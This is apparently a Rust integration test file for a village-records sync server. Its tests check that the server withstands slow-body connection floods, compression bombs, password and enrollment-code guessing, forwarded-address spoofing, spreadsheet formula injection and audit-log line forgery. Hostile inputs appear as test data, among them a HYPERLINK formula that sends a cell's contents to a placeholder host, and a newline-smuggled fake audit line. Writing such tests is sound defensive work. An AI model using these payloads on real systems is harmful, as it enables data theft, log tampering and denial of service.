//! Attacks over real HTTP by clients with no account (or a phone's account aimed at the people
//! who read what it wrote): slow bodies, requests that cost before authentication, lockouts
//! anyone could trigger, text that runs in a spreadsheet or forges an audit line, console pages
//! without security headers, and households created by the thousand. Each test shows the
//! attack refused, the server up and an honest phone syncing meanwhile.

mod common;

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::*;
use doorstep_core::sync::protocol::{self, DocChanges, Position, SyncRequest, TownCursor};
use doorstep_core::*;
use doorstep_sync_server::limits::{
    CONSOLE_REQUEST_TIMEOUT, ENROLL_BODY_TIMEOUT, MAX_CONNECTIONS, MAX_CONNECTIONS_PER_ADDRESS,
    NEW_HOUSEHOLDS_PER_DEVICE_PER_DAY,
};
use doorstep_tests::{RawClient, ServerProcess};

/// Where the attacker's connections come from: another loopback address than the honest
/// phone's, as another machine of the town's network would.
const ATTACKER: &str = "127.0.0.2";
/// A console password long enough for the server.
const PASSWORD: &str = "hub-desk-password-2026";

fn random_hex(bytes: usize) -> String {
    (0..bytes)
        .map(|_| format!("{:02x}", rand::random::<u8>()))
        .collect()
}

fn server_address(t: &Town) -> SocketAddr {
    t.server.url.trim_start_matches("http://").parse().unwrap()
}

/// `n` connections to the server from `from`, each sent `head` (and nothing more).
fn connections_from(t: &Town, from: &str, n: usize, head: &[u8]) -> Vec<TcpStream> {
    let server = server_address(t);
    let from: IpAddr = from.parse().unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    (0..n)
        .map(|_| {
            let stream = runtime.block_on(async {
                let socket = tokio::net::TcpSocket::new_v4().unwrap();
                socket.bind(SocketAddr::new(from, 0)).unwrap();
                socket.connect(server).await.unwrap()
            });
            let mut stream = stream.into_std().unwrap();
            stream.set_nonblocking(false).unwrap();
            // The server may already have closed a connection over its limits.
            let _ = stream.write_all(head);
            stream
        })
        .collect()
}

/// What the server sends on `stream` before it closes it or `wait` passes.
fn answer(stream: &mut TcpStream, wait: Duration) -> String {
    stream.set_read_timeout(Some(wait)).unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = stream.read(&mut buf) {
        if n == 0 {
            break;
        }
        answer.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

/// Whether the server has closed `stream` (or closes it before `deadline`).
fn closed_by(stream: &mut TcpStream, deadline: Instant) -> bool {
    let mut buf = [0u8; 4096];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return false;
        }
        stream.set_read_timeout(Some(left)).unwrap();
        match stream.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return false,
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => return false,
            Err(_) => return true,
        }
    }
}

/// A client that sends what it likes, as if through the town's TLS front (the front's header
/// naming `from` as the client), with a time limit on every request.
struct Client {
    runtime: tokio::runtime::Runtime,
    http: reqwest::Client,
    url: String,
}

impl Client {
    fn new(url: &str) -> Client {
        Client {
            runtime: tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap(),
            http: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                // A fresh connection each time: the server closes idle ones.
                .pool_max_idle_per_host(0)
                .timeout(Duration::from_secs(15))
                .build()
                .unwrap(),
            url: url.to_string(),
        }
    }

    /// Sends a request; the status, the headers and the text (`None` if it timed out).
    fn send(
        &self,
        method: reqwest::Method,
        path: &str,
        headers: &[(&str, &str)],
        body: Vec<u8>,
    ) -> Option<(u16, reqwest::header::HeaderMap, String)> {
        self.runtime.block_on(async {
            let mut request = self.http.request(method, format!("{}{path}", self.url));
            for (name, value) in headers {
                request = request.header(*name, *value);
            }
            let response = request.body(body).send().await.ok()?;
            let (status, headers) = (response.status().as_u16(), response.headers().clone());
            Some((status, headers, response.text().await.ok()?))
        })
    }

    /// `GET /healthz` answers `ok` in time.
    fn healthy(&self) -> bool {
        let answer = self.send(reqwest::Method::GET, "/healthz", &[], vec![]);
        answer.is_some_and(|(status, _, text)| status == 200 && text == "ok")
    }

    /// Signs in to the console as `user` from `from`: the status and the page.
    fn sign_in(&self, from: &str, user: &str, password: &str) -> (u16, String) {
        let pairing = random_hex(32);
        let form = format!(
            "csrf={pairing}&user={}&password={}",
            percent(user),
            percent(password)
        );
        let cookie = format!("doorstep_login={pairing}");
        let headers = [
            ("x-forwarded-for", from),
            ("cookie", cookie.as_str()),
            ("content-type", "application/x-www-form-urlencoded"),
        ];
        let path = "/console/login";
        let (status, _, text) = self
            .send(reqwest::Method::POST, path, &headers, form.into_bytes())
            .expect("an answer in time");
        (status, text)
    }

    /// Enrolls a new device id with `code` from `from`: the status.
    fn enroll(&self, from: &str, code: &str) -> u16 {
        let body = serde_json::json!({
            "code": code, "device": random_device(), "device_name": "手机",
        });
        let headers = [("x-forwarded-for", from)];
        let path = protocol::ENROLL_PATH;
        self.send(
            reqwest::Method::POST,
            path,
            &headers,
            body.to_string().into(),
        )
        .expect("an answer in time")
        .0
    }
}

/// `text` as a form field.
fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// The honest agent's phone, enrolled and synced.
fn honest_phone(t: &Town) -> Arc<Store> {
    let phone = t.enrolled_phone("honest.db", &t.user(Role::Agent, VILLAGE));
    t.sync(&phone).unwrap();
    phone
}

/// The honest phone records a visit and syncs it, in time.
fn still_syncing(t: &Town, phone: &Arc<Store>) {
    let started = Instant::now();
    visit_and_sync(t, phone);
    assert!(started.elapsed() < Duration::from_secs(10));
}

/// The server restarted to trust a TLS front on 127.0.0.1 (the tests' requests name their
/// client in `X-Forwarded-For`).
fn behind_front(t: &mut Town) {
    t.server.kill();
    let front = ["--trusted-front", "127.0.0.1"];
    t.server = ServerProcess::start_on(&server_exe(), &t.data, None, &front);
}

/// The server binary's `admin` command on the town's data: what it printed.
fn admin(t: &Town, args: &[&str]) -> String {
    let mut command = Command::new(server_exe());
    command.args(["admin", "--data", &t.data]);
    if let Some(key) = doorstep_tests::test_key_file(&t.data) {
        command.arg("--key-file").arg(key);
    }
    let output = command.args(args).output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn slow_console_forms_from_one_address_hold_nothing() {
    let t = two_villages();
    let honest = honest_phone(&t);
    // More connections than the server serves at once, each a console form whose body never
    // comes.
    let head = b"POST /console/login HTTP/1.1\r\nHost: x\r\n\
        Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\ncsrf=";
    let mut held = connections_from(&t, ATTACKER, 1100, head);
    let client = Client::new(&t.server.url);
    assert!(client.healthy(), "the server answers meanwhile");
    still_syncing(&t, &honest);
    // Each of them is cut off within the console's time limit.
    let deadline = Instant::now() + CONSOLE_REQUEST_TIMEOUT + Duration::from_secs(5);
    for stream in &mut held {
        assert!(closed_by(stream, deadline), "a slow form is cut off");
    }
    assert!(client.healthy());
}

#[test]
fn slow_enrollments_from_many_addresses_hold_nothing() {
    let t = two_villages();
    let honest = honest_phone(&t);
    // From 33 addresses, as many connections as each may open: more than the server serves at
    // once, each an enrollment whose body never comes.
    let head = b"POST /v1/enroll HTTP/1.1\r\nHost: x\r\n\
        Content-Type: application/json\r\nContent-Length: 200\r\n\r\n{";
    let started = Instant::now();
    let mut held: Vec<TcpStream> = (2..=34)
        .flat_map(|n| {
            connections_from(
                &t,
                &format!("127.0.0.{n}"),
                MAX_CONNECTIONS_PER_ADDRESS,
                head,
            )
        })
        .collect();
    assert!(held.len() > MAX_CONNECTIONS);
    // The oldest of them make room for the newcomers: the server answers, an honest phone
    // syncs, and a new phone enrolls meanwhile.
    let client = Client::new(&t.server.url);
    assert!(client.healthy(), "the server answers meanwhile");
    still_syncing(&t, &honest);
    let agent = t.user(Role::Agent, VILLAGE);
    enroll_device(&t, &agent.id, &random_device());
    // Each of them is cut off within the enrollment's time limit.
    let deadline = started + ENROLL_BODY_TIMEOUT + Duration::from_secs(5);
    for stream in &mut held {
        assert!(closed_by(stream, deadline), "a slow enrollment is cut off");
    }
    assert!(client.healthy());
}

#[test]
fn an_enrolled_device_holding_idle_connections_keeps_nobody_out() {
    let t = two_villages();
    let honest = honest_phone(&t);
    let agent = t.user(Role::Agent, VILLAGE);
    let insider = enroll_device(&t, &agent.id, &random_device());
    // From 33 addresses, as many connections as each may open, each a request with the
    // device's token (answered 400 at once), then kept open for the next one.
    let head = format!(
        "POST /v1/sync HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\n\
         Content-Length: 0\r\n\r\n",
        insider.token
    );
    let held: Vec<TcpStream> = (2..=34)
        .flat_map(|n| {
            connections_from(
                &t,
                &format!("127.0.0.{n}"),
                MAX_CONNECTIONS_PER_ADDRESS,
                head.as_bytes(),
            )
        })
        .collect();
    assert!(held.len() > MAX_CONNECTIONS);
    std::thread::sleep(Duration::from_secs(1));
    // Idle between requests, they make room: the server answers and the honest phone syncs.
    let client = Client::new(&t.server.url);
    assert!(client.healthy(), "the server answers meanwhile");
    still_syncing(&t, &honest);
    drop(held);
}

#[test]
fn sync_requests_cost_nothing_before_their_device_is_known() {
    let t = two_villages();
    let honest = honest_phone(&t);
    let attacker = enroll_device(&t, &t.user(Role::Agent, VILLAGE).id, &random_device());
    let trickle = |token: &str| {
        format!(
            "POST {} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\
             Content-Length: 1000\r\n\r\nD",
            protocol::SYNC_PATH
        )
    };
    // Tokens that merely look like tokens, bodies sent a byte at a time: refused at once.
    let mut fakes: Vec<TcpStream> = (0..24)
        .flat_map(|_| connections_from(&t, ATTACKER, 1, trickle(&random_hex(32)).as_bytes()))
        .collect();
    still_syncing(&t, &honest);
    for stream in &mut fakes {
        let answer = answer(stream, Duration::from_secs(5));
        assert!(answer.starts_with("HTTP/1.1 401"), "{answer:?}");
    }
    drop(fakes);
    // A real device's token: one exchange under way at a time, the rest refused once they
    // have waited their turn in vain.
    let mut real = connections_from(&t, ATTACKER, 20, trickle(&attacker.token).as_bytes());
    still_syncing(&t, &honest);
    let wait = doorstep_sync_server::limits::DEVICE_TURN_WAIT + Duration::from_secs(5);
    let refused = real
        .iter_mut()
        .map(|stream| answer(stream, wait))
        .filter(|answer| answer.starts_with("HTTP/1.1 429"))
        .count();
    assert_eq!(
        refused, 19,
        "all but one of the device's exchanges are refused"
    );
    audited(&t, &attacker.device, "refused", "上一次同步还没有结束");
}

#[test]
fn compressed_bodies_without_a_device_are_never_inflated() {
    let t = two_villages();
    let honest = honest_phone(&t);
    // A few kilobytes on the wire, megabytes once inflated.
    let bomb = protocol::encode(&SyncRequest {
        device: random_device(),
        scope: vec![],
        position: Position::Changes {
            cursors: vec![TownCursor {
                town: "sanzhang".into(),
                seq: 0,
            }],
        },
        push: vec![DocChanges {
            household_id: "2222222222222222".into(),
            changes: vec![vec![0u8; 4 << 20]],
        }],
        want_snapshots: vec![],
        budget: 1 << 16,
        pushes_seen: 0,
    });
    assert!(bomb.len() < 8 << 10, "{} bytes", bomb.len());
    let before = t.server.peak_memory();
    let url = t.server.url.clone();
    let senders: Vec<_> = (0..16)
        .map(|_| {
            let (url, bomb) = (url.clone(), bomb.clone());
            std::thread::spawn(move || RawClient::of_token(&url, &random_hex(32), "").post(bomb).0)
        })
        .collect();
    for sender in senders {
        assert_eq!(sender.join().unwrap(), 401);
    }
    let after = t.server.peak_memory();
    assert!(
        after < before + (16 << 20),
        "peak memory grew from {before} to {after} bytes"
    );
    still_syncing(&t, &honest);
}

#[test]
fn wrong_passwords_and_codes_stop_the_guesser_not_everyone() {
    let mut t = two_villages();
    behind_front(&mut t);
    let honest = honest_phone(&t);
    let staff = t.user(Role::TownStaff, "sanzhang");
    t.accounts.set_password(&staff.id, PASSWORD, now()).unwrap();
    let client = Client::new(&t.server.url);
    // 110 wrong passwords from 11 addresses: each address waits after its ten.
    for n in 0..110 {
        let from = format!("10.0.0.{}", n / 10 + 1);
        let (status, _) = client.sign_in(&from, &format!("guess{n}"), "wrong-password!");
        assert_eq!(status, 401, "try {n}");
        if n % 10 == 9 {
            let (status, page) = client.sign_in(&from, &staff.id, "wrong-password!");
            assert_eq!(status, 429, "an address that failed ten times waits");
            assert!(page.contains("秒后再试"), "{page}");
        }
    }
    // Everyone else signs in.
    let (status, _) = client.sign_in("10.9.9.9", &staff.id, PASSWORD);
    assert_eq!(status, 303, "the staff member is not locked out");
    // A guesser at one account from many addresses is slowed down, one try at a time ...
    let mut slowed = false;
    for n in 0..20 {
        let (status, _) = client.sign_in(&format!("10.1.0.{n}"), &staff.id, "wrong-password!");
        if status == 429 {
            slowed = true;
            break;
        }
        assert_eq!(status, 401);
    }
    assert!(slowed, "guesses at one account back off");
    // ... and the staff member gets in once the short wait is over.
    std::thread::sleep(Duration::from_secs(3));
    let (status, _) = client.sign_in("10.9.9.9", &staff.id, PASSWORD);
    assert_eq!(status, 303);
    let log = t.accounts.audit_log().unwrap();
    assert!(log.iter().filter(|e| e.action == "sign-in-refused").count() >= 110);
    // 600 wrong enrollment codes from 30 addresses: a new phone still enrolls.
    for n in 0..600 {
        let from = format!("10.2.0.{}", n / 20);
        assert_eq!(
            client.enroll(&from, &format!("ZZZZ-{n:04}")),
            401,
            "try {n}"
        );
        if n % 20 == 19 {
            assert_eq!(client.enroll(&from, "ZZZZ-ZZZZ"), 429, "the guesser waits");
        }
    }
    let agent = t.user(Role::Agent, VILLAGE);
    let code = t
        .accounts
        .issue_code(&agent.id, chrono::Utc::now())
        .unwrap();
    assert_eq!(client.enroll("10.9.9.9", &code), 200);
    assert!(client.healthy());
    still_syncing(&t, &honest);
}

#[test]
fn a_forwarded_address_counts_only_from_the_trusted_front() {
    let t = two_villages();
    let client = Client::new(&t.server.url);
    // No front is trusted: a guesser naming a new address in each request is one address.
    for n in 0..10 {
        let (status, _) = client.sign_in(&format!("10.3.0.{n}"), "guess", "wrong-password!");
        assert_eq!(status, 401, "try {n}");
    }
    let (status, _) = client.sign_in("10.3.0.99", "guess2", "wrong-password!");
    assert_eq!(status, 429, "the header of an untrusted client is ignored");
}

#[test]
fn text_from_a_phone_never_runs_in_a_spreadsheet() {
    let t = two_villages();
    let honest = honest_phone(&t);
    let link = "=HYPERLINK(\"http://example.invalid/?\"&E2,\"查看详情\")";
    let hh = honest
        .create_household(NewHousehold {
            village_id: VILLAGE.into(),
            group_name: "-1+1".into(),
            address: link.into(),
            phone: None,
        })
        .unwrap();
    honest
        .add_member(
            &hh,
            NewMember {
                name: "@SUM(1+1)".into(),
                id_number: None,
                phone: None,
                gender: None,
                birth_date: None,
                relation: "+户主".into(),
                tags: vec![],
            },
        )
        .unwrap();
    still_syncing(&t, &honest);
    let dir = tempfile::tempdir().unwrap();
    for table in ["households", "members"] {
        let out = dir.path().join(format!("{table}.csv"));
        let out_text = out.to_str().unwrap();
        let format = format!("csv-{table}");
        admin(
            &t,
            &[
                "export", "--region", VILLAGE, "--format", &format, "--out", out_text,
            ],
        );
        let text = std::fs::read_to_string(&out).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "{table}: a cell would run: {cell}"
            );
        }
        let quoted = if table == "households" {
            format!("'{link}")
        } else {
            "'@SUM(1+1)".to_string()
        };
        assert!(cells.contains(&quoted), "{table}: {quoted} kept as text");
    }
    // The workbook holds the same text as text.
    let out = dir.path().join("all.xlsx");
    admin(
        &t,
        &[
            "export",
            "--region",
            VILLAGE,
            "--out",
            out.to_str().unwrap(),
        ],
    );
    let book = read_xlsx(&out);
    let strings = book
        .iter()
        .flat_map(|(_, rows)| rows.iter().flatten())
        .filter(|cell| matches!(cell, calamine::Data::String(s) if s == link))
        .count();
    assert!(strings >= 1, "the address is a string cell of the workbook");
}

#[test]
fn nothing_a_client_sends_forges_an_audit_line() {
    let t = two_villages();
    let honest = honest_phone(&t);
    let fake_line = "2026-12-03 09:00:00 UTC  town-staff  console  -  write  工作台修改";
    // A sign-in name with a line break.
    let client = Client::new(&t.server.url);
    let (status, _) = client.sign_in("127.0.0.1", &format!("x\n{fake_line}"), "wrong-password!");
    assert_eq!(status, 401);
    // A device id with a line break at enrollment.
    let body = serde_json::json!({
        "code": "AAAA-AAAA", "device": format!("x\n{fake_line}"), "device_name": "手机",
    });
    let raw = RawClient::of_token(&t.server.url, "", "");
    let (status, _) = raw.post_to(protocol::ENROLL_PATH, body.to_string().into_bytes());
    assert_eq!(status, 400);
    // A household id with markup and a line break, pushed by an enrolled device.
    let attacker = enroll_device(&t, &t.user(Role::Agent, VILLAGE).id, &random_device());
    let bad_id = format!("<b>x</b>\n{fake_line}");
    let refusal = |household: &str, changes: Vec<Vec<u8>>| {
        let position = Position::Changes { cursors: vec![] };
        let request = push_request(&attacker.device, position, household, changes);
        match &attacker.exchange(&request).unwrap().acks[0].status {
            protocol::AckStatus::Rejected { reason } => reason.clone(),
            other => panic!("stored: {other:?}"),
        }
    };
    let changes = new_household(&attacker.device, &bad_id, VILLAGE);
    assert!(refusal(&bad_id, changes).contains("户编号格式不对"));
    assert!(t.accounts.household_document(&bad_id).unwrap().is_none());
    audited(&t, &attacker.device, "refused", "户编号格式不对");
    // A visit with such an id, added to a household of the village.
    let hh = honest.household_ids().unwrap()[2].clone();
    let changes = forged(&mut t.server_doc(&hh), &attacker.device, |doc| {
        use automerge::transaction::Transactable;
        let visits = map(doc, &automerge::ROOT, "visits");
        let visit = doc
            .put_object(&visits, &bad_id, automerge::ObjType::Map)
            .unwrap();
        doc.put(&visit, "purpose", "入户走访").unwrap();
        doc.put(&visit, "notes", "").unwrap();
    });
    assert!(refusal(&hh, changes).contains("记录编号格式不对"));
    // The audit log prints each row on one line.
    let printed = admin(&t, &["audit"]);
    assert!(!printed.is_empty());
    for line in printed.lines() {
        assert!(!line.starts_with(fake_line), "a fake_line line: {line}");
    }
    assert!(printed.contains("x\\u{a}2026-12-03"), "{printed}");
    still_syncing(&t, &honest);
}

#[test]
fn console_pages_carry_security_headers() {
    let t = two_villages();
    let client = Client::new(&t.server.url);
    for path in ["/console/login", "/console", "/console/cases"] {
        let (_, headers, _) = client
            .send(reqwest::Method::GET, path, &[], vec![])
            .unwrap();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_string()
        };
        let policy = header("content-security-policy");
        assert!(
            policy.contains("frame-ancestors 'none'"),
            "{path}: {policy}"
        );
        assert!(policy.contains("default-src 'none'"), "{path}: {policy}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("cache-control"), "no-store", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
    }
}

#[test]
fn one_device_creates_a_bounded_number_of_households_a_day() {
    let t = two_villages();
    let honest = honest_phone(&t);
    let agent = t.user(Role::Agent, VILLAGE);
    let spammer = t.enrolled_phone("spam.db", &agent);
    t.sync(&spammer).unwrap();
    let households = || {
        let sql = "SELECT count(*) FROM documents WHERE village_id = $1";
        server_int(&t.data, sql, &[VILLAGE.into()]) as usize
    };
    let before = households();
    let allowed = NEW_HOUSEHOLDS_PER_DEVICE_PER_DAY as usize;
    for n in 0..=allowed {
        spammer
            .create_household(NewHousehold {
                village_id: VILLAGE.into(),
                group_name: String::new(),
                address: format!("空户{n}"),
                phone: None,
            })
            .unwrap();
    }
    let report = t.sync(&spammer).unwrap();
    assert_eq!(report.rejected.len(), 1, "{:?}", report.rejected);
    assert!(report.rejected[0].reason.contains("上限"));
    assert_eq!(households(), before + allowed);
    audited(&t, &spammer.device_actor(), "refused", "上限");
    still_syncing(&t, &honest);
}
